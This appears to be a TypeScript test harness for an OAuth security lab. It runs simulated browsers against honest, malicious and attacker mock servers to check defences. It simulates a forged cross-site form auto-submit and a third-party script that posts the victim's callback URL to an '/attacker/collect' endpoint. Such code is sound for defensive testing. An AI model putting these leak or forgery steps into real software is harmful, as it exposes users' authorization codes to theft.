/**
 * The attack lab in Node: the honest server core, the malicious one and the attacker's server
 * (lab-servers.ts) behind one transport, and two browsers with cookie jars of their own, so every
 * attack runs with real requests against the core, oauth4webapi unmocked. The app's own pages
 * (the clients' callback pages) are a stub, as the static files are all Node would serve; what
 * the one script on them does in a browser (report its address) the driver does by hand.
 */
import { createLabServers } from '../mock-as/attacker/lab-servers.ts'
import { createMemoryStore } from '../mock-as/core/memory-store.ts'
import {
  createTestAuthorizationServer,
  mergeCookies,
  type TestAuthorizationServer,
  testAppOrigin,
} from '../mock-as/core/test-server.ts'
import type { Attack, BrowserPage, UserAgent } from './attack-model.ts'
import { type AttackRun, runAttack } from './attack-runner.ts'
import { readPageForm } from './user-agents.ts'

const servedPrefixes = ['/as/', '/api/', '/.well-known/', '/evil-as/', '/attacker/']

function isServerPath(pathname: string): boolean {
  return servedPrefixes.some((prefix) => pathname.startsWith(prefix))
}

const appPage = () =>
  new Response('<!doctype html><title>Grantlab</title><div id="root"></div>', {
    status: 200,
    headers: { 'content-type': 'text/html' },
  })

export interface NodeBrowserOptions {
  /** Whether the page at this address runs the attacker's third-party script. */
  runsThirdPartyScript(url: string): boolean
}

/**
 * A browser in Node: follows redirects, keeps its cookies, posts forms with the `Origin` a
 * browser adds (`null` from the attacker's sandboxed pages), runs the auto-submit of the
 * attacker's forged form and the third-party script of the pages that embed it.
 */
export function createNodeBrowser(options: NodeBrowserOptions): UserAgent {
  let cookie: string | undefined
  async function navigate(
    via: { fetch(url: string, init?: RequestInit): Promise<Response> },
    start: string,
    first: RequestInit,
  ): Promise<BrowserPage> {
    let url = start
    let init = first
    for (let hop = 0; hop < 10; hop++) {
      const response = await via.fetch(url, {
        ...init,
        redirect: 'manual',
        headers: { ...(init.headers as Record<string, string>), ...(cookie ? { cookie } : {}) },
      })
      cookie = mergeCookies(cookie, response)
      const location = response.headers.get('location')
      if (response.status >= 300 && response.status < 400 && location) {
        url = new URL(location, url).href
        init = { method: 'GET' }
        continue
      }
      const html = response.headers.get('content-type')?.startsWith('text/html')
        ? await response.text()
        : undefined
      if (response.headers.get('content-security-policy')?.includes('sandbox')) {
        // Another site's page (the attacker's): the parties cannot read it, but it runs.
        const forged = html?.includes('id="forged"') ? readPageForm(html, url) : undefined
        if (forged) {
          url = forged.action
          init = {
            method: 'POST',
            body: new URLSearchParams(forged.fields),
            headers: { origin: 'null', 'content-type': 'application/x-www-form-urlencoded' },
          }
          continue
        }
        return { url: undefined, status: response.status, html: undefined }
      }
      if (options.runsThirdPartyScript(url)) {
        await via.fetch(`${new URL(url).origin}/attacker/collect`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ page: url }),
        })
      }
      return { url, status: response.status, html }
    }
    throw new Error(`Too many redirects from ${start}`)
  }
  return {
    open: (url, via) => navigate(via, url, { method: 'GET' }),
    async submit(page, fields, button, via) {
      const form = page.html && page.url ? readPageForm(page.html, page.url) : undefined
      if (!form || !page.url) throw new Error(`There is no form on ${page.url ?? 'this page'}.`)
      const body = new URLSearchParams({
        ...form.fields,
        ...fields,
        ...(button ? { [button.name]: button.value } : {}),
      })
      return navigate(via, form.action, {
        method: 'POST',
        body,
        headers: {
          origin: new URL(page.url).origin,
          'content-type': 'application/x-www-form-urlencoded',
        },
      })
    },
  }
}

export interface LabSetup {
  t: TestAuthorizationServer
  transport: (request: Request) => Promise<Response>
  run(attack: Attack, defence: boolean): Promise<AttackRun>
}

/** A fresh lab: new servers and new browsers for every call of `run`, unless `t` is shared. */
export function setUpLab(
  attacks: readonly Attack[],
  t = createTestAuthorizationServer(),
): LabSetup {
  const lab = createLabServers({
    honest: t.server,
    honestDeps: t.deps,
    clock: t.clock,
    random: t.deps.random,
    evilStore: createMemoryStore(),
    attackerStore: createMemoryStore(),
  })
  const transport = async (request: Request) =>
    isServerPath(new URL(request.url).pathname) ? lab.handle(request.clone()) : appPage()
  const runsThirdPartyScript = (url: string) => {
    const match = /^\/attacks\/([^/]+)\/callback$/.exec(new URL(url).pathname)
    return attacks.some((a) => a.id === match?.[1] && a.callbackEmbedsThirdPartyScript === true)
  }
  return {
    t,
    transport,
    run: (attack, defence) =>
      runAttack(attack, defence, {
        transport,
        appOrigin: testAppOrigin,
        victim: createNodeBrowser({ runsThirdPartyScript }),
        attacker: createNodeBrowser({ runsThirdPartyScript: () => false }),
        now: () => t.clock.now(),
      }),
  }
}
